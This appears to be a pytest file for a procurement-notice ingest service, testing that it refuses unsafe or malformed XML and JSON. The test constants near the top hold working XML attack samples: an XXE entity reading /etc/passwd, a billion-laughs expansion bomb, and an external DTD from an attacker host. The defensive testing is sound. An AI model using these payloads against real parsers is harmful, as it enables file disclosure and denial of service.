from pathlib import Path

import pytest

from services.ingest.sources import MAX_DOCUMENT_BYTES, DocumentError, parse_document
from services.ingest.sources._xml import parse_xml

FIXTURES = Path(__file__).parents[2] / "fixtures" / "eforms"

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE ContractNotice [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<ContractNotice xmlns="urn:oasis:names:specification:ubl:schema:xsd:ContractNotice-2">&xxe;</ContractNotice>
"""

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<lolz>&lol9;</lolz>
"""


def test_external_entity_is_refused_and_never_resolved() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_document(XXE)
    assert caught.value.reason == "doctype-forbidden"
    assert "DOCTYPE" in caught.value.message
    assert "root:" not in str(caught.value)


def test_external_entity_hidden_by_utf16_encoding_is_refused() -> None:
    document = XXE.decode().replace('version="1.0"', 'version="1.0" encoding="UTF-16"').encode("utf-16")
    with pytest.raises(DocumentError) as caught:
        parse_xml(document)
    assert caught.value.reason == "doctype-forbidden"


def test_external_dtd_is_refused() -> None:
    document = b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r/>'
    with pytest.raises(DocumentError) as caught:
        parse_xml(document)
    assert caught.value.reason == "doctype-forbidden"


def test_billion_laughs_is_refused() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_document(BILLION_LAUGHS)
    assert caught.value.reason == "doctype-forbidden"


def test_undeclared_entity_is_malformed_not_resolved() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_xml(b"<r>&xxe;</r>")
    assert caught.value.reason == "malformed-xml"
    assert "Entity 'xxe' not defined" in caught.value.message


def test_truncated_notice_is_malformed_with_its_line_and_column() -> None:
    notice = (FIXTURES / "sdk-examples" / "cn_24_open.xml").read_bytes()
    truncated = notice[: len(notice) // 2]
    last_line = truncated.count(b"\n") + 1
    with pytest.raises(DocumentError) as caught:
        parse_document(truncated, content_type="application/xml")
    assert caught.value.reason == "malformed-xml"
    assert f"at line {last_line}, column " in caught.value.message
    assert "Premature end of data" in caught.value.message


def test_malformed_xml_names_the_first_error() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_xml(b'<?xml version="1.0"?>\n<a>\n  <b>text</a>\n')
    assert caught.value.message.startswith(
        "the document is not well-formed XML at line 3, column 14: Opening and ending tag mismatch: b line 3 and a"
    )


def test_empty_document_is_malformed() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_document(b"", filename="notice.xml")
    assert caught.value.reason == "malformed-xml"
    assert "Document is empty" in caught.value.message


def test_oversized_document_is_refused_before_parsing() -> None:
    document = b"<a>" + b"x" * (MAX_DOCUMENT_BYTES - 6) + b"</a>"
    assert len(document) == MAX_DOCUMENT_BYTES + 1
    with pytest.raises(DocumentError) as caught:
        parse_document(document)
    assert caught.value.reason == "too-large"
    assert f"{MAX_DOCUMENT_BYTES + 1} bytes" in caught.value.message


def test_document_at_the_size_limit_is_parsed() -> None:
    document = b"<a>" + b"x" * (MAX_DOCUMENT_BYTES - 7) + b"</a>"
    assert len(document) == MAX_DOCUMENT_BYTES
    assert parse_xml(document).tag == "a"


def test_xml_of_another_format_is_unknown() -> None:
    invoice = b'<Invoice xmlns="urn:oasis:names:specification:ubl:schema:xsd:Invoice-2"><ID>1</ID></Invoice>'
    with pytest.raises(DocumentError) as caught:
        parse_document(invoice)
    assert caught.value.reason == "unknown-format"
    assert "{urn:oasis:names:specification:ubl:schema:xsd:Invoice-2}Invoice" in caught.value.message
    assert "eForms UBL notice" in caught.value.message


def test_xml_without_namespace_is_unknown() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_document(b"<?xml version='1.0'?><AVIS><IDWEB>16-186394</IDWEB></AVIS>")
    assert caught.value.reason == "unknown-format"
    assert "root element AVIS" in caught.value.message


def test_unknown_json_is_unknown_format() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_document(b'{"hello": "world"}', content_type="application/json", filename="thing.json")
    assert caught.value.reason == "unknown-format"
    assert caught.value.message.startswith("the JSON document is not a known notice format; accepted: eForms UBL")


def test_neither_xml_nor_json_is_unknown_format() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_document(b"hello", content_type="text/plain")
    assert caught.value.reason == "unknown-format"


def test_malformed_json_names_the_line() -> None:
    with pytest.raises(DocumentError) as caught:
        parse_document(b'{"a":\n  nope}', content_type="application/json")
    assert caught.value.reason == "malformed-json"
    assert "line 2" in caught.value.message


def test_document_error_is_a_value_error_with_reason_in_its_text() -> None:
    error = DocumentError("missing-field", "the title is missing")
    assert isinstance(error, ValueError)
    assert str(error) == "missing-field: the title is missing"


def test_byte_order_mark_is_accepted() -> None:
    notice = (FIXTURES / "sdk-examples" / "cn_24_open.xml").read_bytes()
    assert parse_document(b"\xef\xbb\xbf" + notice)[0].source_id == "c4c415ee-ac08-4465-8fa6-57568cf69462"
